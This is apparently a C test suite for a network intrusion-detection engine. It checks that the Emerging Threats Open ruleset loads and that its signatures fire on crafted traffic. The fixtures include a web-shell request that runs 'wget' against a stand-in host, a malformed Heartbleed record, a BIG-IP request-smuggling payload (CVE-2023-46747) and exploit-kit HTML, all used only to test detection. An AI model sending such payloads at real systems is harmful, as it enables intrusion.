// SPDX-License-Identifier: GPL-2.0
/*
 * The Emerging Threats Open ruleset (the snapshot in data/et-open, unpacked
 * into build/et-open): all of it must parse and compile, at least 97% of the
 * enabled rules must load by default (pcre evaluated by the regex
 * matcher; rules it cannot evaluate exactly skipped), the image must stay
 * under 64 MB, and real rules must fire on traffic made for them while
 * the whole set is loaded.
 */
#include <dirent.h>
#include <time.h>

#include "engine_harness.h"

static struct et T;		/* the whole ruleset, default mode (pcre exact) */
static bool loaded;

static int load_dir(struct rp_set *s, const char *dir)
{
	char path[4096], err[512];
	struct dirent **names;
	int n, i, files = 0;

	n = scandir(dir, &names, NULL, alphasort);
	if (n < 0)
		return -1;
	snprintf(path, sizeof(path), "%s/classification.config", dir);
	ck_assert_msg(rp_load_classification(s, path, err, sizeof(err)) == 0, "%s", err);
	for (i = 0; i < n; i++) {
		size_t l = strlen(names[i]->d_name);

		if (l > 6 && !strcmp(names[i]->d_name + l - 6, ".rules")) {
			snprintf(path, sizeof(path), "%s/%s", dir, names[i]->d_name);
			ck_assert_msg(rp_parse_file(s, path, err, sizeof(err)) == 0, "%s", err);
			files++;
		}
		free(names[i]);
	}
	free(names);
	return files;
}

static double ms_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

static void load_all(void)
{
	char err[512];
	struct rc_stats st;
	double t0;
	int files;

	if (loaded)
		return;
	memset(&T, 0, sizeof(T));
	rp_set_init(&T.set);
	t0 = ms_now();
	files = load_dir(&T.set, et_open_dir());
	ck_assert_msg(files > 40, "ET Open not found at %s (make et-open, or set TLSI_ET_OPEN)", et_open_dir());
	ck_assert_msg(rc_compile(&T.set, &T.img, &T.len, &st, err, sizeof(err)) == 0, "%s", err);
	printf("ET Open, pcre exact: %zu enabled, %zu loaded (%.1f%%), image %zu bytes, "
	       "%u patterns, %u states, %.0f ms\n", T.set.enabled, T.set.nrules,
	       100.0 * (double)T.set.nrules / (double)T.set.enabled, T.len, st.patterns,
	       st.states, ms_now() - t0);
	ck_assert_msg(tlsi_eng_init(&T.eng, T.img, T.len, err, sizeof(err)) == 0, "%s", err);
	T.eng.thresh = T.thresh;
	T.eng.nthresh = 256;
	T.s = calloc(1, tlsi_eng_scratch_size(&T.eng));
	T.f = calloc(1, sizeof(*T.f));
	T.cfg.alert = et_on_alert;
	T.cfg.event = et_on_event;
	T.cfg.arg = &T;
	T.ctx.eng = &T.eng;
	T.ctx.s = T.s;
	T.ctx.cfg = &T.cfg;
	loaded = true;
}

START_TEST(test_load_ratio)
{
	struct rp_set s;
	double ratio;
	size_t i, reasons = 0;

	load_all();
	ratio = (double)T.set.nrules / (double)T.set.enabled;
	ck_assert_msg(T.set.enabled > 20000, "only %zu enabled rules", T.set.enabled);
	ck_assert_msg(ratio >= 0.97, "%.1f%% of the enabled rules loaded", 100 * ratio);
	ck_assert_uint_eq(T.set.nrules + T.set.skipped, T.set.enabled);
	for (i = 0; i < T.set.nskips; i++)
		reasons += T.set.skips[i].count;
	ck_assert_uint_eq(reasons, T.set.skipped);
	ck_assert_msg(T.len <= 64u << 20, "image of %zu bytes", T.len);

	/* --pcre=prefilter loads more (every pcre rule with a content),
	 * with the expressions ignored */
	rp_set_init(&s);
	s.pcre = RP_PCRE_PREFILTER;
	load_dir(&s, et_open_dir());
	printf("ET Open, pcre prefilter: %zu of %zu loaded (%.1f%%)\n", s.nrules, s.enabled,
	       100.0 * (double)s.nrules / (double)s.enabled);
	ck_assert_uint_eq(s.enabled, T.set.enabled);
	ck_assert_uint_ge(s.nrules, T.set.nrules);
	rp_set_free(&s);
}
END_TEST

static void flow4(const uint8_t c[4], uint16_t cport, const uint8_t s[4], uint16_t sport)
{
	uint8_t ca[16], sa[16];

	tlsi_eng_addr4(ca, c);
	tlsi_eng_addr4(sa, s);
	tlsi_eng_flow_init(T.f, ca, cport, sa, sport);
	T.nalerts = 0;
	T.events = 0;
}

static const uint8_t home[4] = { 192, 168, 1, 20 }, ext[4] = { 203, 0, 113, 9 };

/* A DNS-over-TCP query (type A, class IN) for name into out; its length. */
static size_t dns_query(uint8_t *out, size_t cap, const char *name)
{
	static const uint8_t hdr[12] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0 };
	size_t n = 2 + sizeof(hdr);

	ck_assert_uint_lt(strlen(name) + 2 + n + 4, cap);
	memcpy(out + 2, hdr, sizeof(hdr));
	while (*name) {
		const char *dot = strchr(name, '.');
		size_t l = dot ? (size_t)(dot - name) : strlen(name);

		out[n++] = (uint8_t)l;
		memcpy(out + n, name, l);
		n += l;
		name += l + (dot ? 1 : 0);
	}
	memcpy(out + n, "\0\0\1\0\1", 5);
	n += 5;
	out[0] = (uint8_t)((n - 2) >> 8);
	out[1] = (uint8_t)(n - 2);
	return n;
}

START_TEST(test_real_rules_fire)
{
	struct tlsi_eng_tls_info ti = { 0 };

	load_all();
	/* GPL WEB_SERVER perl post attempt: EXTERNAL -> HOME */
	flow4(ext, 51000, home, 80);
	et_req(&T, "POST /perl/test.pl HTTP/1.1\r\nHost: intranet\r\nContent-Length: 3\r\n\r\nx=1");
	ET_FIRED(&T, 2101979);
	/* ET WEB_SERVER WebShell Generic - wget http - POST */
	flow4(ext, 51001, home, 8080);
	et_req(&T, "POST /shell.php HTTP/1.1\r\nHost: intranet\r\nContent-Length: 33\r\n\r\n"
		   "cmd=wget%20http://x.example/a.sh");
	ET_FIRED(&T, 2016683);
	/* the same request, body split in odd places */
	flow4(ext, 51002, home, 80);
	et_sendc(&T, TLSI_DIR_TO_SERVER, "POST /shell.php HTTP/1.1\r\nHost: intranet\r\n"
		 "Content-Length: 33\r\n\r\ncmd=wget%20http://x.example/a.sh", 3);
	ET_FIRED(&T, 2016683);
	/* ET USER_AGENTS Microsoft Dr Watson User-Agent (MSDW): HOME -> EXTERNAL */
	flow4(home, 40001, ext, 80);
	et_req(&T, "GET /report HTTP/1.1\r\nUser-Agent: MSDW\r\nHost: watson.microsoft.com\r\n\r\n");
	ET_FIRED(&T, 2027389);
	flow4(home, 40002, ext, 80);
	et_req(&T, "GET /report HTTP/1.1\r\nUser-Agent: MSDWX\r\nHost: x\r\n\r\n");
	ET_SILENT(&T, 2027389);	/* isdataat:!1,relative */
	/* pcre, evaluated: ET ATTACK_RESPONSE Output of id command from HTTP
	 * server (two relative expressions, contents within their ends) */
	flow4(ext, 51003, home, 80);
	et_resp(&T, "HTTP/1.1 200 OK\r\nContent-Length: 54\r\n\r\n"
		    "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n");
	ET_FIRED(&T, 2019284);
	flow4(ext, 51004, home, 80);
	et_resp(&T, "HTTP/1.1 200 OK\r\nContent-Length: 46\r\n\r\n"
		    "uid=nobody gid=nogroup groups=nogroup, sorry\n");
	ET_SILENT(&T, 2019284);
	/* ET ADWARE_PUP Adware.MultiInstaller checkin 2: /U-style anchored
	 * expression on http.uri with {100,} and $ */
	{
		char req[512];

		flow4(home, 40008, ext, 80);
		snprintf(req, sizeof(req), "GET /entrance?s1=%0100d HTTP/1.1\r\nHost: x\r\n\r\n", 7);
		et_req(&T, req);
		ET_FIRED(&T, 2018590);
		flow4(home, 40009, ext, 80);
		snprintf(req, sizeof(req), "GET /entrance?s1=%099d HTTP/1.1\r\nHost: x\r\n\r\n", 7);
		et_req(&T, req);
		ET_SILENT(&T, 2018590);	/* 99 digits: [a-f0-9]{100,} fails */
		flow4(home, 40010, ext, 80);
		snprintf(req, sizeof(req), "GET /entrance?s1=%0100d&x HTTP/1.1\r\nHost: x\r\n\r\n", 7);
		et_req(&T, req);
		ET_SILENT(&T, 2018590);	/* $ */
	}
	/* ET ADWARE_PUP Win32/Foniad domain in TLS SNI (endswith) */
	flow4(home, 40003, ext, 443);
	ti.sni = (const uint8_t *)"cdn.maraukog.info";
	ti.sni_len = 17;
	tlsi_eng_tls(&T.ctx, T.f, &ti);
	ET_FIRED(&T, 2025487);
	flow4(home, 40004, ext, 443);
	ti.sni = (const uint8_t *)"maraukog.info.example";
	ti.sni_len = 21;
	tlsi_eng_tls(&T.ctx, T.f, &ti);
	ET_SILENT(&T, 2025487);
	/* ET ADWARE_PUP OSX/Bundalore domain in a DNS-over-TLS query (dns.query;
	 * nocase; endswith), among the 3,900 dns rules of the set */
	{
		uint8_t q[300];
		size_t n;

		flow4(home, 40006, ext, 853);
		n = dns_query(q, sizeof(q), "x.AppsDown.urbanvillager.xyz");
		et_send(&T, TLSI_DIR_TO_SERVER, q, n);
		ET_FIRED(&T, 2029107);
		flow4(home, 40007, ext, 853);
		n = dns_query(q, sizeof(q), "www.example.com");
		et_send(&T, TLSI_DIR_TO_SERVER, q, n);
		ck_assert(T.f->apps & TLSI_APPS(TLSI_APP_DNS));
		ET_SILENT(&T, 2029107);
	}
	/* ET EXPLOIT_KIT Sakura applet: file.data, response from EXTERNAL */
	flow4(home, 40005, ext, 80);
	et_req(&T, "GET /index.php HTTP/1.1\r\nHost: ek.example\r\n\r\n");
	et_resp(&T, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked\r\n\r\n"
		    "20\r\n<html><body><applet code=\"x\" ar\r\n"
		    "30\r\nchive=\"y\"><param name=\"u\" value=\"nzzv@55abcdef\">\r\n0\r\n\r\n");
	ET_FIRED(&T, 2015735);
	{
		size_t b;

		for (b = 0; b < T.set.nflowbits; b++)
			if (!strcmp(T.set.flowbits[b], "et.exploitkitlanding"))
				break;
		ck_assert_uint_lt(b, T.set.nflowbits);
		ck_assert(T.f->flowbits[b / 8] & (1u << (b % 8)));	/* flowbits:set */
	}
	/* byte_extract: ET EXPLOIT Malformed HeartBeat Request (a heartbeat
	 * record of 3 bytes claiming 16384; the record length is the
	 * variable), from a source no other test uses (threshold by_src) */
	{
		static const uint8_t src[4] = { 203, 0, 113, 77 };
		static const uint8_t hb[] = { 0x18, 0x03, 0x02, 0x00, 0x03, 0x01, 0x40, 0x00,
					      0x41, 0x41, 0x41 };
		static const uint8_t ok[] = { 0x18, 0x03, 0x02, 0x00, 0x13, 0x01, 0x00, 0x10,
					      0x41, 0x41, 0x41 };

		flow4(src, 40020, home, 4433);
		et_send(&T, TLSI_DIR_TO_SERVER, ok, sizeof(ok));
		ET_SILENT(&T, 2018372);
		flow4(src, 40021, home, 4433);
		et_send(&T, TLSI_DIR_TO_SERVER, hb, sizeof(hb));
		ET_FIRED(&T, 2018372);
	}
	/* app-layer-event: ET EXPLOIT F5 BIG-IP AJP smuggling (CVE-2023-46747)
	 * with chunked on an HTTP/1.0 request (libhtp's invalid T-E), and
	 * not with valid chunked framing */
	{
		static const char hdr10[] = "POST /tmui/login.jsp HTTP/1.0\r\nHost: bigip\r\n"
					    "Transfer-Encoding: chunked\r\n\r\n";
		static const char hdr11[] = "POST /tmui/login.jsp HTTP/1.1\r\nHost: bigip\r\n"
					    "Transfer-Encoding: chunked\r\n\r\n";
		static const char body[] = "20\r\n\x00\x08HTTP/1.1\x00\x00\x12/tmui/Control/form"
					   "\x00\r\n0\r\n\r\n";
		char req[512];

		memcpy(req, hdr10, sizeof(hdr10) - 1);
		memcpy(req + sizeof(hdr10) - 1, body, sizeof(body) - 1);
		flow4(ext, 40022, home, 443);
		et_send(&T, TLSI_DIR_TO_SERVER, req, sizeof(hdr10) - 1 + sizeof(body) - 1);
		ET_FIRED(&T, 2049057);
		memcpy(req, hdr11, sizeof(hdr11) - 1);
		memcpy(req + sizeof(hdr11) - 1, body, sizeof(body) - 1);
		flow4(ext, 40023, home, 443);
		et_send(&T, TLSI_DIR_TO_SERVER, req, sizeof(hdr11) - 1 + sizeof(body) - 1);
		ET_SILENT(&T, 2049057);
	}
	/* TCP packet rules among all the others: ET SCAN Amap (flags:PA and
	 * contents on the packet) ... */
	{
		static const char amap[] = "GET service:thc://x service:thc";
		struct tlsi_eng_pkt p = { .proto = TLSI_PROTO_TCP, .tcp_flags = 0x18,
					  .established = 1, .payload = (const uint8_t *)amap,
					  .len = sizeof(amap) - 1 };
		size_t b;

		flow4(ext, 40006, home, 8080);
		tlsi_eng_datagram(&T.ctx, T.f, TLSI_DIR_TO_SERVER, &p);
		ET_FIRED(&T, 2010371);
		T.nalerts = 0;
		p.tcp_flags = 0x10;		/* no PSH */
		tlsi_eng_datagram(&T.ctx, T.f, TLSI_DIR_TO_SERVER, &p);
		ET_SILENT(&T, 2010371);
		/* ... the same bytes as a stream: not a packet */
		flow4(ext, 40007, home, 8080);
		et_send(&T, TLSI_DIR_TO_SERVER, amap, sizeof(amap) - 1);
		ET_SILENT(&T, 2010371);
		/* ... and ET DOS RDP Syn/Ack (flags:SA, sets its flowbit) */
		flow4(ext, 40008, home, 3389);
		p.tcp_flags = 0x12;
		p.established = 0;
		p.payload = NULL;
		p.len = 0;
		tlsi_eng_datagram(&T.ctx, T.f, TLSI_DIR_TO_CLIENT, &p);
		for (b = 0; b < T.set.nflowbits; b++)
			if (!strcmp(T.set.flowbits[b], "ms.rdp.synack"))
				break;
		ck_assert_uint_lt(b, T.set.nflowbits);
		ck_assert(T.f->flowbits[b / 8] & (1u << (b % 8)));
		ck_assert_uint_eq(T.nalerts, 0);	/* noalert */
	}
}
END_TEST

START_TEST(test_benign_browsing)
{
	unsigned int i;

	load_all();
	/* ordinary browsing of an internal site must not trip drop or
	 * high-priority rules */
	flow4(home, 40100, ext, 80);
	et_req(&T, "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\n"
		   "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0\r\n"
		   "Accept: text/html,application/xhtml+xml\r\nAccept-Language: en-US,en;q=0.5\r\n"
		   "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n");
	et_resp(&T, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html; charset=utf-8\r\n"
		    "Content-Length: 64\r\n\r\n<!doctype html><html><head><title>Hi</title></head></html>\n");
	for (i = 0; i < T.nalerts; i++) {
		uint32_t k;

		for (k = 0; k < T.eng.nrules; k++)
			if (T.eng.rules[k].sid == T.alerts[i])
				break;
		ck_assert_msg(k < T.eng.nrules && T.eng.rules[k].priority > 1,
			      "benign page hit sid %u", T.alerts[i]);
	}
	ck_assert_int_ne(T.f->verdict, TLSI_ENG_V_DROP);
}
END_TEST

Suite *engine_et_suite(void)
{
	Suite *s = suite_create("engine-et-open");
	TCase *tc = tcase_create("et-open");

	tcase_set_timeout(tc, 60);
	tcase_add_test(tc, test_load_ratio);
	tcase_add_test(tc, test_real_rules_fire);
	tcase_add_test(tc, test_benign_browsing);
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(engine_et_suite());
	int failed;

	/* one load of the ruleset for all tests */
	srunner_set_fork_status(sr, CK_NOFORK);
	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	if (loaded)
		et_free(&T);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
